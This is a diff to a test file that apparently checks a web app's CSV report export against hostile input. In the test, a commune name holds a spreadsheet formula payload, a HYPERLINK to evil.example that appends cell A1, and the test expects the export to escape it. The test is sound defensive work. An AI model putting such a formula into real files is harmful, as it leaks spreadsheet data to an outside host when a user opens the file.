@@ -760,7 +760,7 @@ describe('Hostile input over HTTP', () => {
       communes: [{ code: '01843', districtCode: '058', name: formula }],
     });
     expect(put.status).toBe(200);
-    await catchUpProjections(t.app, t.config.schema); // no worker in this file
+    await catchUpProjections(t.app, t.config.schema, put.body.position); // no worker in this file
     const csv = await send('get', `/api/v1/reports/standings.csv?province=${PROVINCE}`, 'admin');
     expect(csv.status).toBe(200);
     expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"`);
